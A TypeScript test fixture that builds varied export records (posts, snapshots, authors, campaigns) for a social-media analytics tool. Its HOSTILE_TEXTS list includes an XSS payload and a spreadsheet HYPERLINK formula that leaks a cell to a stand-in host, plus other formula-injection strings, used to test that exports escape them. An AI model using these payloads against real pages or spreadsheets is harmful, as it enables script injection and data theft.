// Record sets the export tests build files from: pure database records (lib/records.ts) and
// campaigns, varied on purpose (no data, null counts, unknown authors, hostile text, campaigns with
// and without money), so a test can build every kind of export the code writes without a database.
import type { Campaign } from '@/lib/campaigns';
import type { AuthorRecord, FollowerSnapshotRecord, PostRecord, SnapshotRecord } from '@/lib/records';
import type { ExportRecords } from '@/lib/transfer';
import { NO_OUTCOMES } from '../fixtures/campaign';

export const T0 = Date.UTC(2025, 2, 1, 8, 30, 0);
const HOUR = 3_600_000;

export const EXPORTED_AT = new Date(T0 + 48 * HOUR);

export function postRecord(over: Partial<PostRecord> = {}): PostRecord {
  return {
    key: 'x:1',
    platform: 'x',
    postId: '1',
    url: 'https://x.com/alice/status/1',
    authorKey: 'x:alice',
    authorHandle: 'Alice',
    authorName: 'Alice A.',
    publishedAt: '2025-03-01T07:00:00.000Z',
    text: 'hello',
    promoted: false,
    firstSeen: T0,
    lastSeen: T0 + HOUR,
    ...over,
  };
}

export function snapshotRecord(over: Partial<SnapshotRecord> = {}): SnapshotRecord {
  return {
    id: 1,
    postKey: 'x:1',
    capturedAt: T0,
    likes: 10,
    comments: 2,
    reposts: 3,
    saves: 0,
    views: 1000,
    followers: 500,
    ...over,
  };
}

export const alice: AuthorRecord = {
  key: 'x:alice',
  platform: 'x',
  handle: 'Alice',
  name: 'Alice A.',
  followers: 500,
  followersAt: T0,
};

const followerSnapshot = (over: Partial<FollowerSnapshotRecord>): FollowerSnapshotRecord => ({
  id: 1,
  authorKey: 'x:alice',
  capturedAt: T0,
  followers: 500,
  ...over,
});

/** Text a page could put in a post: markup, formulas, controls, RTL, emoji, lone surrogates. */
export const HOSTILE_TEXTS = [
  '<img src=x onerror=alert(document.domain)>',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '\tstarts with a tab',
  'a "quoted" \\ back\\slash\n\r\u0000\u001f',
  'مرحبا بالعالم ‏שלום',
  'launch 🚀🎉 day',
  'cut mid-emoji \uD83D',
  '\uDE80 lone low',
  '\u2028line\u2029separators',
  '{"format":"postlens-export","version":99}',
  'x'.repeat(2000),
];

export const CAMPAIGN_FULL: Campaign = {
  id: 'c-spring_1',
  name: 'Spring launch',
  postKeys: ['x:1', 'reddit:t3_abc'],
  start: '2025-03-01',
  end: '2025-03-31',
  spend: { amountMinor: 12_345, currency: 'EUR' },
  revenue: { amountMinor: 50_000, currency: 'EUR' },
  leads: 3,
  clicks: 40,
  conversions: 2,
  csat: 87.5,
  nps: -12,
  createdAt: T0,
  updatedAt: T0 + HOUR,
};

export const CAMPAIGN_BLANK: Campaign = {
  id: 'c2',
  name: '<b>Autumn</b> =1+1',
  postKeys: [],
  start: '2025-09-01',
  end: '2025-09-01',
  ...NO_OUTCOMES,
  createdAt: T0 - HOUR,
  updatedAt: T0 - HOUR,
};

export const EMPTY: ExportRecords = { posts: [], snapshots: [], authors: [], followerSnapshots: [] };

/** Posts on several platforms, counts shown and not shown, known and unknown authors. */
export const VARIED: ExportRecords = {
  posts: [
    postRecord(),
    postRecord({
      key: 'reddit:t3_abc',
      platform: 'reddit',
      postId: 't3_abc',
      url: 'https://www.reddit.com/r/science/comments/abc/x/',
      authorKey: null,
      authorHandle: null,
      authorName: null,
      publishedAt: null,
      text: '',
      promoted: true,
      firstSeen: T0 + HOUR,
    }),
    postRecord({
      key: 'mastodon:109',
      platform: 'mastodon',
      postId: '109',
      url: 'https://mastodon.social/@bob/109',
      authorKey: 'mastodon:bob@mastodon.social',
      authorHandle: 'bob@mastodon.social',
      authorName: 'Bob',
      firstSeen: T0 - HOUR,
    }),
  ],
  snapshots: [
    snapshotRecord({ id: 2, capturedAt: T0 + 2 * HOUR, likes: 12, followers: null }),
    snapshotRecord(),
    snapshotRecord({
      id: 3,
      postKey: 'reddit:t3_abc',
      likes: null,
      comments: null,
      reposts: null,
      saves: null,
      views: null,
      followers: null,
    }),
    snapshotRecord({ id: 4, postKey: 'reddit:t3_abc', capturedAt: T0 + HOUR, likes: 1e13, views: 0 }),
    snapshotRecord({
      id: 5,
      postKey: 'mastodon:109',
      likes: 0,
      comments: 0,
      reposts: 0,
      saves: 0,
      views: null,
    }),
  ],
  authors: [
    // Its name read after its latest count: the export writes nameAt.
    { ...alice, nameAt: T0 + HOUR },
    {
      key: 'mastodon:bob@mastodon.social',
      platform: 'mastodon',
      handle: 'bob@mastodon.social',
      name: null,
      followers: null,
      followersAt: null,
    },
  ],
  followerSnapshots: [
    followerSnapshot({ id: 2, capturedAt: T0 + HOUR, followers: 510 }),
    followerSnapshot({}),
  ],
};

/** One post per hostile text, in the post's text, the author's name and handle. */
export const HOSTILE: ExportRecords = {
  posts: HOSTILE_TEXTS.map((text, i) =>
    postRecord({
      key: `x:h${i}`,
      postId: `h${i}`,
      url: `https://x.com/h/status/${i}`,
      authorKey: null,
      authorHandle: text.slice(0, 300),
      authorName: text.slice(0, 300),
      text,
      firstSeen: T0 + i,
    }),
  ),
  snapshots: HOSTILE_TEXTS.map((_t, i) => snapshotRecord({ id: 100 + i, postKey: `x:h${i}`, likes: i })),
  authors: [],
  followerSnapshots: [],
};
